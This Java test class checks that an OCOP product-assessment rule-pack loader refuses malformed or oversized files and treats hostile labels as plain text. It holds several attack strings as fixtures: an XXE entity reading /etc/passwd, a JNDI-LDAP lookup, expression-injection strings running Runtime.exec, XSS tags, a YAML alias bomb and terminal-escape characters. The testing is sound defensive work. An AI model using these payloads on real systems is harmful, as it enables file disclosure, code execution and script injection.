package vn.ocop.pack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.Normalizer;
import java.time.Duration;
import java.time.LocalDate;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.stream.Stream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import vn.ocop.assessment.Assessment;
import vn.ocop.dossier.Dossier;
import vn.ocop.dossier.DossierKind;
import vn.ocop.dossier.LegalForm;
import vn.ocop.dossier.Product;
import vn.ocop.dossier.ScoreSheet;
import vn.ocop.dossier.SheetRole;
import vn.ocop.dossier.Subject;
import vn.ocop.engine.AssessmentOptions;
import vn.ocop.explanation.Explanation;
import vn.ocop.json.AssessmentWriter;
import vn.ocop.rubric.Rubric;
import vn.ocop.text.Text;

/** Files that are broken or meant to do harm: refused with their code and place, or taken as the text that they are. */
class HostileDataTest {

    private static final String RICE = "sets/01-rice-cakes.csv";
    private static final Duration SOON = Duration.ofSeconds(20);
    private static final Locale VIETNAMESE = Locale.forLanguageTag("vi");

    // ---- what spreadsheets and editors write

    @Test
    void tables_as_spreadsheets_write_them_mean_the_same() {
        SmallPack pack = SmallPack.sound();
        SmallPack saved = pack;
        for (String path : pack.files().paths()) {
            if (path.endsWith(".csv")) {
                saved = saved.with(
                        path, "\uFEFF" + withSemicolons(pack.text(path)).replace("\n", "\r\n"));
            }
        }
        saved = saved.with("pack.yaml", "\uFEFF" + pack.text("pack.yaml").replace("\n", "\r\n"));

        assertThat(saved.load().rubrics()).isEqualTo(pack.load().rubrics());
        assertThat(saved.load().readings()).isEqualTo(pack.load().readings());
        assertThat(saved.lint()).isEmpty();
    }

    /** The small pack has commas in quoted cells only. */
    private static String withSemicolons(String table) {
        StringBuilder saved = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < table.length(); i++) {
            char c = table.charAt(i);
            quoted ^= c == '"';
            saved.append(c == ',' && !quoted ? ';' : c);
        }
        return saved.toString();
    }

    @Test
    void empty_rows_at_the_end_are_nothing() {
        SmallPack pack = SmallPack.sound();

        assertThat(pack.with(RICE, pack.text(RICE) + ",,,,,,,,\n\n,,,,,,,,\n")
                        .load()
                        .rubrics())
                .isEqualTo(pack.load().rubrics());
    }

    @ParameterizedTest
    @ValueSource(strings = {"UTF-16LE", "UTF-16BE", "UTF-16", "windows-1258", "UTF-32"})
    void files_in_another_encoding_are_refused(String name) {
        SmallPack pack = SmallPack.sound();
        Charset charset = Charset.forName(name);
        byte[] table = pack.text(RICE).getBytes(charset);
        byte[] manifest = pack.text("pack.yaml").getBytes(charset);

        assertThat(pack.with(RICE, table).codes())
                .isSubsetOf("not-utf8", "bad-header")
                .hasSize(1);
        assertThat(pack.with("pack.yaml", manifest).codes())
                .isSubsetOf("not-utf8", "bad-yaml")
                .hasSize(1);
    }

    @Test
    void bytes_that_are_not_utf_8_are_told_with_their_line() {
        SmallPack pack = SmallPack.sound();
        byte[] surrogate = {(byte) 0xED, (byte) 0xA0, (byte) 0x80};
        int line = pack.lineOf(RICE, "Không có");
        SmallPack spoilt = pack.with(RICE, put(pack.text(RICE), "Không có", surrogate));
        SmallPack manifest = pack.with("pack.yaml", put(pack.text("pack.yaml"), "Small pack", surrogate));

        assertThat(spoilt.lines(Locale.ENGLISH))
                .containsExactly(
                        RICE + ":" + line + ": not-utf8: " + RICE + " is not in UTF-8; save it in that encoding");
        assertThat(spoilt.lines(VIETNAMESE))
                .containsExactly(
                        RICE + ":" + line + ": not-utf8: " + RICE + " không ở mã UTF-8; hãy lưu lại theo mã này");
        assertThat(manifest.lines(Locale.ENGLISH))
                .containsExactly("pack.yaml:7: not-utf8: pack.yaml is not in UTF-8; save it in that encoding");
    }

    @Test
    void a_text_file_that_is_not_utf_8_is_found_by_lint() {
        SmallPack pack = SmallPack.sound().with("README.md", put("# Gói\n\nnhỏ\n", "nhỏ", new byte[] {(byte) 0xC0}));

        assertThat(pack.lines(Locale.ENGLISH))
                .containsExactly("README.md:3: not-utf8: README.md is not in UTF-8; save it in that encoding");
    }

    private static byte[] put(String text, String place, byte[] bytes) {
        byte[] before = text.substring(0, text.indexOf(place)).getBytes(StandardCharsets.UTF_8);
        byte[] after = text.substring(text.indexOf(place)).getBytes(StandardCharsets.UTF_8);
        byte[] all = new byte[before.length + bytes.length + after.length];
        System.arraycopy(before, 0, all, 0, before.length);
        System.arraycopy(bytes, 0, all, before.length, bytes.length);
        System.arraycopy(after, 0, all, before.length + bytes.length, after.length);
        return all;
    }

    // ---- size

    @Test
    void a_million_rows_are_refused_soon_and_briefly() {
        SmallPack wrong = SmallPack.sound().with(RICE, header(RICE) + "x\n".repeat(1_000_000));
        SmallPack right = SmallPack.sound().with(RICE, header(RICE) + "option,,,,,,,,\n".repeat(250_000));

        assertTimeoutPreemptively(SOON, () -> {
            List<String> lines = wrong.lines(Locale.ENGLISH);
            assertThat(lines).hasSize(1001);
            assertThat(lines.get(0)).startsWith(RICE + ":2: bad-row: ");
            assertThat(lines)
                    .contains(
                            RICE + ":1002: too-many-faults: there are more than 1000 faults; mend those above and check"
                                    + " again");
            assertThat(wrong.lines(VIETNAMESE))
                    .contains(RICE + ":1002: too-many-faults: có hơn 1000 lỗi; hãy sửa các lỗi trên rồi kiểm tra lại");
        });
        assertTimeoutPreemptively(SOON, () -> {
            assertThat(right.lines(Locale.ENGLISH))
                    .containsExactly(RICE + ":20002: too-many-rows: the table has more than 20000 rows; no annex has so"
                            + " many, look for a wrong file or split it");
            assertThat(right.lines(VIETNAMESE))
                    .containsExactly(
                            RICE + ":20002: too-many-rows: bảng có hơn 20000 dòng; không phụ lục nào dài như vậy,"
                                    + " hãy xem có nhầm tệp không, hoặc tách ra");
        });
    }

    private static String header(String path) {
        return SmallPack.sound().text(path).lines().findFirst().orElseThrow() + "\n";
    }

    @Test
    void a_manifest_of_50_megabytes_is_refused_whatever_the_host_allows(@TempDir Path folder) throws IOException {
        String manifest = "title: " + "x".repeat(50_000_000);
        Files.writeString(folder.resolve("pack.yaml"), manifest);
        PackLimits generous = new PackLimits(10, 1 << 26, 1 << 27, 100, 2, 1 << 26);

        assertThat(Refusals.codes(() -> PackFiles.folder(folder))).containsExactly("pack.yaml:0: file-too-large");
        assertTimeoutPreemptively(
                SOON,
                () -> assertThat(Refusals.codes(
                                () -> RulePack.read(PackFiles.folder(folder, generous), id -> List.of())))
                        .contains("pack.yaml:0: yaml-too-long"));
    }

    @Test
    void a_cell_of_megabytes_is_shown_shortened() {
        SmallPack pack =
                SmallPack.sound().replace(RICE, "option,1,,Không có,None,0,,,", "x".repeat(3_000_000) + ",1,,a,b,0,,,");

        assertThat(pack.lines(Locale.ENGLISH))
                .singleElement()
                .satisfies(line -> assertThat(line.length()).isLessThan(700));
    }

    @Test
    void a_fault_stays_one_line_whatever_the_cell_holds() {
        SmallPack pack = SmallPack.sound()
                .replace(RICE, "option,1,,Không có,None,0,,,", "\"x\nsets.csv:1: \u001B[2J\u202E\",1,,a,b,0,,,");

        assertThat(pack.lines(Locale.ENGLISH))
                .containsExactly(RICE + ":11: unknown-row: a row begins with \"xU+000Asets.csv:1: U+001B[2JU+202E\", it"
                        + " must begin with part, section, criterion or option");
    }

    @Test
    void codes_that_nest_for_ever_are_refused() {
        StringBuilder rows = new StringBuilder(header(RICE)).append("part,A,,A,A,1,,,\nsection,1,,A,A,1,,,\n");
        StringBuilder code = new StringBuilder("1");
        for (int depth = 0; depth < 1500; depth++) {
            code.append(".1");
            rows.append("criterion,").append(code).append(",1,A,A,1,,sum,\n");
        }
        SmallPack pack = SmallPack.sound().with(RICE, rows.toString());

        assertTimeoutPreemptively(SOON, () -> assertThat(pack.codes()).contains("bad-code", "too-many-faults"));
    }

    @Test
    void dependencies_in_a_long_chain_are_followed_to_the_end() {
        int last = 3000;
        StringBuilder rows = new StringBuilder(header(RICE)).append("part,A,,A,A,1,,,\nsection,1,,A,A,1,,,\n");
        StringBuilder effects = new StringBuilder(header("effects.csv"));
        for (int i = 1; i <= last; i++) {
            rows.append("criterion,1.").append(i).append(",1.").append(i).append(",A,A,1,,yes-no,\n");
            effects.append("rice-cakes,applies-only-if,,1.%d,1.%d,printed,,,x,x\n".formatted(i, i % last + 1));
        }
        SmallPack pack = SmallPack.sound()
                .with(RICE, rows.toString())
                .with("effects.csv", effects.toString())
                .replace("pack.yaml", "scored-criteria: 12", "scored-criteria: 3004")
                .replace("pack.yaml", "yes-no-criteria: 1", "yes-no-criteria: 3000")
                .replace("pack.yaml", "options: 29", "options: 10")
                .replace("pack.yaml", "option-gates: 8", "option-gates: 3")
                .replace("pack.yaml", "title-gates: 1", "title-gates: 0");

        assertTimeoutPreemptively(
                SOON,
                () -> assertThat(pack.lines(Locale.ENGLISH))
                        .contains(
                                "effects.csv:3001: circular-effect: in set rice-cakes criterion 1.3000 depends on 1.1,"
                                        + " and that depends on 1.3000; take one of the rows out"));
    }

    // ---- YAML

    @ParameterizedTest
    @MethodSource
    void deep_nesting_is_refused_and_no_stack_overflows(String value) {
        SmallPack pack = SmallPack.sound().replace("pack.yaml", "decree: QĐ 1/QĐ-TTg", "decree: " + value);

        assertTimeoutPreemptively(SOON, () -> assertThat(pack.codes()).containsExactly("yaml-too-deep"));
    }

    static Stream<String> deep_nesting_is_refused_and_no_stack_overflows() {
        return Stream.of("[".repeat(100_000), "{a: ".repeat(40_000), "\n  " + "- ".repeat(80_000) + "x");
    }

    @Test
    void aliases_that_multiply_are_refused_before_they_do() {
        StringBuilder laughs = new StringBuilder("replaces: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            laughs.append((char) (c - 32)).append(": &").append(c).append(" [");
            laughs.append(("*" + (char) (c - 1) + ", ").repeat(8)).append("x]\n");
        }
        SmallPack pack = SmallPack.sound().replace("pack.yaml", "replaces: [older]\n", laughs.toString());

        assertTimeoutPreemptively(SOON, () -> assertThat(pack.codes()).containsOnly("yaml-anchor-or-tag"));
    }

    // ---- XML

    private static final String XML =
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + "<a>&x;</a>\n";

    @Test
    void xml_is_never_read_as_xml() {
        assertThat(Refusals.codes(() -> SmallPack.sound().with("pack.xml", XML).files()))
                .containsExactly("pack.xml:0: unexpected-file");
        assertThat(SmallPack.sound().with("pack.yaml", XML).lines(Locale.ENGLISH))
                .containsExactly("pack.yaml:1: not-a-mapping: key / must hold further keys");
        assertThat(SmallPack.sound().with("sets.csv", XML).codes()).containsExactly("bad-header");
        assertThat(SmallPack.sound().with("README.md", XML).lint()).isEmpty();
    }

    // ---- labels that are more than labels

    @ParameterizedTest
    @MethodSource("labels")
    void a_label_arrives_as_the_text_that_it_is(String label) {
        SmallPack pack = withLastLabel(label);
        RulePack loaded = pack.load();

        assertThat(lastLabel(loaded).vi()).isEqualTo(label);
        assertThat(pack.lint()).isEmpty();

        Assessment assessment = pack.engine().assess(BEST, HOST);
        Assessment plain = SmallPack.sound().engine().assess(BEST, HOST);
        assertThat(assessment.status()).isEqualTo(plain.status());
        assertThat(assessment.total()).isEqualTo(plain.total());
        assertThat(assessment.stars()).isEqualTo(plain.stars()).hasValue(5);
        assertThat(Explanation.of(assessment).text(VIETNAMESE)).contains(label.replace('\n', ' '));
        assertThat(Explanation.of(assessment).html(VIETNAMESE))
                .doesNotContain("<script>")
                .doesNotContain("<img");
        assertThat(AssessmentWriter.create().toJsonLine(assessment)).doesNotContain("\n{");
    }

    /** The small pack with a label, quoted as a table needs it, on its last option. */
    private static SmallPack withLastLabel(String label) {
        String cell = "\"" + label.replace("\"", "\"\"") + "\"";
        return SmallPack.sound().replace(RICE, "Đặc biệt ngon,Outstanding,40,5,,", cell + "," + cell + ",40,5,,");
    }

    private static Text lastLabel(RulePack pack) {
        Rubric rubric = Objects.requireNonNull(pack.rubrics().get("rice-cakes"));
        return rubric.scored().get(rubric.scored().size() - 1).options().get(3).label();
    }

    static Stream<String> labels() {
        return Stream.of(
                "nói \"ngon\" và 'rất ngon'",
                "dòng một\ndòng hai",
                "giá ${jndi:ldap://example.org/a} #{7*7} %{7*7} $1 \\1",
                "x @{1+1} @[a]{b} ${java.lang.Runtime.getRuntime().exec(\"id\")}",
                "\" ); Runtime.getRuntime().exec(\"id\"); //",
                "rule \"x\" when eval(true) then System.exit(1); end",
                "package a; import java.io.*; function void f() { }",
                "<script>alert(1)</script><img src=x onerror=alert(1)>",
                "]]> <!-- & &amp; <!DOCTYPE a>",
                "{0} {1,number} '{2}' MessageFormat",
                "a;b,c|d\\e/../f %s %n",
                "\\u0022 \\n \\0");
    }

    @Property(tries = 100)
    void any_printable_label_arrives_as_it_is(@ForAll("printable") String label) {
        SmallPack pack = withLastLabel(label);

        assertThat(lastLabel(pack.load()).en()).isEqualTo(label);
    }

    @Provide
    static Arbitrary<String> printable() {
        return Arbitraries.strings()
                .withCharRange(' ', '~')
                .withCharRange('À', 'ỹ')
                .withChars('\n', '"')
                .ofMinLength(1)
                .ofMaxLength(40)
                .filter(text -> text.equals(text.strip()) && Normalizer.isNormalized(text, Normalizer.Form.NFC));
    }

    private static final AssessmentOptions HOST =
            AssessmentOptions.builder().pack("small").build();

    private static final Dossier BEST = Dossier.builder()
            .id("1")
            .kind(DossierKind.FIRST)
            .submittedOn(LocalDate.of(2024, 5, 1))
            .product(Product.builder().name("Bánh").set("rice-cakes").build())
            .subject(Subject.builder()
                    .name("HTX")
                    .legalForm(LegalForm.COOPERATIVE)
                    .build())
            .addSheet(ScoreSheet.builder()
                    .role(SheetRole.SELF)
                    .putAllChoices(
                            Map.of("1.1", 3, "1.2", 1, "2.1", 3, "2.2", 2, "3.1", 3, "3.2.1", 2, "3.2.2", 2, "4", 4))
                    .build())
            .build();
}
